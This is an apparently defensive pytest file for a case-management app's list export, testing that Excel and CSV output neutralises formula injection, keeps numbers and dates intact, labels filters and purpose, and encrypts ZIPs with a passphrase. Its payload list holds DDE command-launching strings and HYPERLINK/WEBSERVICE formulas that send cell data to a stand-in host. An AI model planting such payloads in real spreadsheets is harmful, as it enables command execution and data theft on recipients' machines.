"""A list as a file: whatever was typed stays words, what it is stands in it, and only the passphrase opens the ZIP."""

from __future__ import annotations

import csv
from datetime import date, datetime
from io import BytesIO, StringIO
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import pyzipper

from leaddesk.domain.comma_text import guarded
from leaddesk.domain.list_exports import ListExportDraft, ListFormat, Protection
from leaddesk.exchange.spreadsheet_out import ListCopy, comma_file, encrypted, spreadsheet, workbook

_COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"see")',
    'WEBSERVICE("http://x.example")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0=", "\u200b=")
PAYLOADS = [start + command for start in _STARTS for command in _COMMANDS][:60]
HOSTILE = '<b>"Ann" & Bob</b> 😀 שלום; , \n second line'


def copy(rows, heads=("Name", "Day", "Count"), **values):
    plain = {
        "key": "participants",
        "title": "Participants",
        "filters": ("Active", "“tackett”"),
        "purpose": "Year's end",
        "office": "Alder County LEAD",
        "made_at": datetime(2026, 11, 3, 8, 0, tzinfo=ZoneInfo("America/Denver")),
        "made_by": "C. Brandt",
    }
    return ListCopy(heads=heads, rows=tuple(rows), **{**plain, **values})


def sheet_of(content):
    return openpyxl.load_workbook(BytesIO(content)).active


def lines_of(content):
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def table_of(sheet, heads):
    first = next(row[0].row for row in sheet.iter_rows() if tuple(cell.value for cell in row)[: len(heads)] == heads)
    return list(sheet.iter_rows(min_row=first + 1, max_col=len(heads)))


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) == 60


def test_no_payload_is_a_formula_in_excel_and_each_is_read_back_as_it_was_typed():
    found = table_of(sheet_of(workbook(copy([(one, one, one) for one in PAYLOADS]))), ("Name", "Day", "Count"))
    assert [cell.data_type for row in found for cell in row] == ["s"] * 180
    assert [row[0].value.replace("_x000D_", "\r").replace("\r\n", "\n") for row in found] == [
        one.replace("\r\n", "\n") for one in PAYLOADS
    ]


def test_no_payload_begins_like_a_formula_in_csv_and_nothing_else_is_changed():
    lines = lines_of(comma_file(copy([(one, "", 1) for one in PAYLOADS])))
    cells = [line[0] for line in lines[1 : 1 + len(PAYLOADS)]]
    assert cells == [f"'{one}" for one in PAYLOADS]


@pytest.mark.parametrize(
    "text", ["", "Roz", "O'Brien", "a=b", "(555) 010-0199", "555-010", "'", "  Roz", "LD-2026-0001"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert guarded(text) == text


@pytest.mark.parametrize("head", ["=1+1", "@SUM(A1)"])
def test_a_heading_and_a_note_are_guarded_too(head):
    content = comma_file(copy([], heads=(head,), purpose=head))
    assert lines_of(content)[0] == [f"'{head}"]
    sheet = sheet_of(workbook(copy([], heads=(head,), title=head)))
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_numbers_and_days_stay_numbers_and_days():
    ((name, day, count),) = table_of(
        sheet_of(workbook(copy([(HOSTILE, date(2026, 11, 3), -12)]))), ("Name", "Day", "Count")
    )
    assert (name.value, day.value.date(), count.value) == (HOSTILE, date(2026, 11, 3), -12)
    assert lines_of(comma_file(copy([(HOSTILE, date(2026, 11, 3), -12)])))[1] == [HOSTILE, "2026-11-03", "-12"]


@pytest.mark.parametrize("make", [workbook, comma_file])
def test_the_file_names_its_filters_its_purpose_and_for_whom_it_is(make):
    content = make(copy([("Roz", "", 1)]))
    words = (
        " ".join(str(cell.value) for row in sheet_of(content).iter_rows() for cell in row)
        if make is workbook
        else content.decode("utf-8-sig")
    )
    for told in ("Filter: Active, “tackett”", "Rows: 1", "Purpose: Year's end", "Internal: for the office itself only"):
        assert told in words
    assert "PRACTICE" not in words


def test_an_empty_list_and_a_practice_list_say_so():
    sheet = sheet_of(workbook(copy([], filters=(), practice=True)))
    words = " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
    assert "PRACTICE" in words
    assert "Filter: none, the whole list" in words
    assert "Rows: 0" in words


def test_half_characters_and_control_signs_do_not_stop_a_file():
    rows = [("a\ud800b\x00c\x1b", "", 1), ("x" * 40_000, "", 2)]
    found = table_of(sheet_of(workbook(copy(rows))), ("Name", "Day", "Count"))
    assert found[0][0].value == "a?bc"
    assert len(found[1][0].value) == 32_767
    assert lines_of(comma_file(copy(rows)))[1][0] == "a?bc"


def test_the_file_name_tells_the_list_and_the_day_and_nobody():
    assert copy([("Roz Tackett", "", 1)]).file_name("zip") == "LIST-participants-2026-11-03.zip"


@pytest.mark.parametrize("kind", list(ListFormat))
def test_only_the_passphrase_opens_the_zip(kind):
    content = spreadsheet(copy([("Roz", "", 1)]), kind)
    made = encrypted("LIST.xlsx", content, "six words and ünïcode")
    assert b"Roz" not in made
    with pyzipper.AESZipFile(BytesIO(made)) as folder:
        (entry,) = folder.infolist()
        assert entry.wz_aes_strength == 3
        with pytest.raises(RuntimeError):
            folder.read("LIST.xlsx", pwd=b"another one")
        assert folder.read("LIST.xlsx", pwd="six words and ünïcode".encode()) == content


@pytest.mark.parametrize(
    ("draft", "field"),
    [
        (ListExportDraft("", passphrase="x"), "purpose"),
        (ListExportDraft("x" * 301, passphrase="x"), "purpose"),
        (ListExportDraft("Board", passphrase=" "), "passphrase"),
        (ListExportDraft("Board", protection=Protection.PLAIN), None),
    ],
)
def test_a_purpose_is_needed_and_a_passphrase_where_it_is_encrypted(draft, field):
    assert list(draft.problems()) == ([field] if field else [])
